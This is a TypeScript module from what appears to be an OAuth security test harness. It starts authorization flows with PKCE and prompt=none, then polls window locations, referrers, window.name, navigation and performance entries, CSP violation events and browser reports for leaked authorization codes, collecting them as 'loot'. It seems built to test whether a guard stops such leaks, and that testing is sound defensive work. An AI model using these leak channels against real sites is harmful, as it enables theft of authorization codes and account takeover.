import { attempt, sleep } from './attack.ts'
import type { AttackContext } from './attack.ts'
import { shortened } from './find-secrets.ts'

export type ResponseMode = 'query' | 'fragment' | 'form_post'
export const RESPONSE_MODES: readonly ResponseMode[] = ['query', 'fragment', 'form_post']

/** An authorization request of the attacker's own: its verifier and state, the app's client and redirect URI. */
export interface OwnFlow {
  readonly url: string
}

export async function startOwnFlow(
  { asOrigin, guardianOrigin }: AttackContext,
  responseMode: ResponseMode,
): Promise<OwnFlow> {
  const verifier = randomText()
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))
  const state = randomText()
  ownStates.add(state)
  const url = new URL('/auth', asOrigin)
  url.search = new URLSearchParams({
    client_id: 'demo',
    response_type: 'code',
    response_mode: responseMode,
    redirect_uri: `${guardianOrigin}/auth/callback`,
    scope: 'openid',
    prompt: 'none',
    state,
    nonce: randomText(),
    code_challenge: base64url(new Uint8Array(digest)),
    code_challenge_method: 'S256',
  }).toString()
  return { url: url.href }
}

const ownStates = new Set<string>()

/** What the watched windows and this page gave away about responses to own flows. */
export class Loot {
  readonly found: string[] = []
  readonly places = new Set<string>()
  /** Loads that a content policy stopped. */
  blocked = 0

  /** A readable code, or a readable error with it: then a code would have been readable too. */
  take(text: string | null | undefined, where: string): void {
    if (text === null || text === undefined || text === '') return
    const decoded = attempt(() => decodeURIComponent(text)) ?? text
    const mine = [...ownStates].some((state) => decoded.includes(state))
    for (const [, name, value] of decoded.matchAll(/(?<![\w-])(code|error)=([\w.~-]{6,})/g)) {
      if (name === 'error' && !mine) continue
      const what = name === 'code' ? `code ${shortened(value ?? '')}` : `error response (${value})`
      this.found.push(`${where}: ${what} of my own authorization request`)
    }
  }

  /** Everything that one window lets a same-origin script read. Throws nothing. */
  inspect(target: Window | null | undefined, where: string): void {
    if (target === null || target === undefined) return
    const href = attempt(() => target.location.href)
    if (href === undefined) return
    const place = href === 'about:blank' ? href : (attempt(() => new URL(href).pathname) ?? href)
    if (target !== window) this.places.add(place)
    this.take(href, `${where} location`)
    this.take(
      attempt(() => target.document.referrer),
      `${where} referrer`,
    )
    this.take(
      attempt(() => target.document.URL),
      `${where} document.URL`,
    )
    this.take(
      attempt(() => target.name),
      `${where} window.name`,
    )
    const { navigation } = target as { navigation?: NavigationLike }
    for (const { url } of attempt(() => navigation?.entries()) ?? []) {
      this.take(url, `${where} navigation.entries()`)
    }
    this.take(
      attempt(() => navigation?.activation?.from?.url),
      `${where} navigation.activation`,
    )
    const timing = attempt(() => (target as Window & typeof globalThis).performance.getEntries())
    for (const { name } of timing ?? []) this.take(name, `${where} performance entry`)
  }
}

/** Looks at the windows as often as it can until time is up. */
export async function poll(
  loot: Loot,
  windows: () => readonly (Window | null | undefined)[],
  where: string,
  ms = 2500,
): Promise<void> {
  const until = performance.now() + ms
  while (performance.now() < until) {
    for (const target of windows()) loot.inspect(target, where)
    await sleep(4)
  }
  loot.inspect(window, 'the page itself:')
}

/** One sentence on what was readable since the last one. */
export function describePlaces(loot: Loot, where: string): string {
  const places = [...loot.places]
  const blocked = loot.blocked === 0 ? '' : ` A content policy stopped ${loot.blocked} loads.`
  loot.places.clear()
  loot.blocked = 0
  return places.length === 0
    ? `${where}: no readable address at any time.${blocked}`
    : `${where}: readable addresses were ${places.join(', ')}.${blocked}`
}

/** Collects what the browser itself reports about blocked loads in a document: its reports can hold whole URLs. */
export function watchReports(
  target: Window & typeof globalThis,
  loot: Loot,
  where: string,
): () => void {
  const onViolation = (event: SecurityPolicyViolationEvent): void => {
    loot.blocked += 1
    loot.take(event.blockedURI, `${where} violation event`)
    loot.take(event.documentURI, `${where} violation event`)
    loot.take(event.referrer, `${where} violation event`)
  }
  target.document.addEventListener('securitypolicyviolation', onViolation)
  const observer =
    'ReportingObserver' in target
      ? new target.ReportingObserver(
          (reports) => loot.take(JSON.stringify(reports), `${where} browser report`),
          { buffered: true },
        )
      : undefined
  observer?.observe()
  return () => {
    target.document.removeEventListener('securitypolicyviolation', onViolation)
    observer?.disconnect()
  }
}

function randomText(): string {
  return base64url(crypto.getRandomValues(new Uint8Array(32)))
}

function base64url(bytes: Uint8Array): string {
  const text = btoa(String.fromCharCode(...bytes))
  return text.replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')
}
